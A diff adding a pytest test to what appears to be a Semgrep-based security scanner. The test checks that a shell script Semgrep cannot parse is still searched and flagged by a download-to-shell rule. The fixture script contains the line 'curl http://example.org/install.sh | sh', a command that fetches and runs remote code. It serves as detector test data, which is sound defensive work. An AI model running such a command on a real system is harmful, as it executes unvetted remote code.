@@ -91,6 +91,16 @@ def test_an_empty_tree_is_no_step_and_nothing_examined() -> None:
     assert Semgrep().parse(tree, []).examined == frozenset()
 
 
+def test_a_shell_script_that_semgrep_cannot_parse_is_searched_all_the_same(tmp_path: Path) -> None:
+    delivery = tmp_path / "delivery"
+    delivery.mkdir()
+    script = "#!/bin/sh\nUSAGE=$(\n  cat << 'END'\nIt's (odd.\nEND\n)\ncurl http://example.org/install.sh | sh\n"
+    (delivery / "set-up").write_text(script)
+    seen = checked.run(Semgrep(), checked.checkout(delivery), tmp_path / "run").seen
+    assert (seen.examined, seen.not_examined) == (frozenset({"set-up"}), ())
+    assert "semgrep:sh-plain-download-to-shell" in {finding.rule for finding in seen.findings}
+
+
 def _answered(*files: File, **answer: object) -> ToolOutput:
     tree = Checkout(delivery=checked.inventoried.DELIVERY, root=Path("/nowhere"), files=files)
     (command,) = Semgrep().steps(tree, Settings())
